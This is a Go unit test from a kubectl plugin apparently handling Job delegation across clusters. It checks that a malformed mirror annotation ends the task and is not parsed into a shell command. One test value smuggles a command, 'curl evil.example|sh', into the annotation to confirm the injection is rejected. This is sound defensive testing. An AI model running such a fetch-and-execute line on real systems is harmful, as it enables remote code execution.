package dispatch

import (
	"errors"
	"testing"

	"gotest.tools/v3/assert"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/internal/dispatchtest"
)

// TestMalformedMirrorAnnotation checks that a malformed mirror annotation ends the task: the mirror may be
// anywhere, so no second one is created.
func TestMalformedMirrorAnnotation(t *testing.T) {
	sideOf := func(context string) *side {
		server := dispatchtest.NewServer(t)
		server.Namespaces = map[string]string{"kube-system": context}
		return &side{Cluster: server.Cluster(t, context)}
	}
	at := &task{Loop: &Loop{origin: sideOf("management")}, worker: sideOf("worker-1"), Task: Task{Kind: delegation.Job()}}
	at.ref = refTo(at.origin.Cluster, at.Kind.GroupVersionKind(), "ml", "train", "uid-of-train")
	at.mirrorRef = refTo(at.worker.Cluster, at.Kind.GroupVersionKind(), "ml", "train", "")
	origin := &unstructured.Unstructured{}
	origin.SetNamespace("ml")
	origin.SetName("train")
	expect := func() error {
		final, err := at.adoptRecorded(t.Context(), origin)
		return errors.Join(final, err)
	}
	assert.NilError(t, expect())
	origin.SetAnnotations(map[string]string{delegation.MirrorAnnotation: "worker-1/ml/train/uid-of-mirror"})
	assert.NilError(t, expect())
	assert.Equal(t, at.mirrorRef.UID, "uid-of-mirror")

	at.mirrorRef.UID = ""
	origin.SetAnnotations(map[string]string{delegation.MirrorAnnotation: "worker-1/x; curl evil.example|sh #/train/uid"})
	err := expect()
	assert.ErrorContains(t, err, "which names no object, so the place of its mirror is unknown")
	assert.Equal(t, at.mirrorRef.UID, "")
	for _, part := range command.Prose(err.Error()).Parts() {
		if part.IsCommand {
			assert.DeepEqual(t, shelltest.Words(t, part.Text), []string{
				"kubectl", "--context", "management", "-n", "ml", "annotate", "job", "train", delegation.MirrorAnnotation + "-",
			})
		}
	}
}
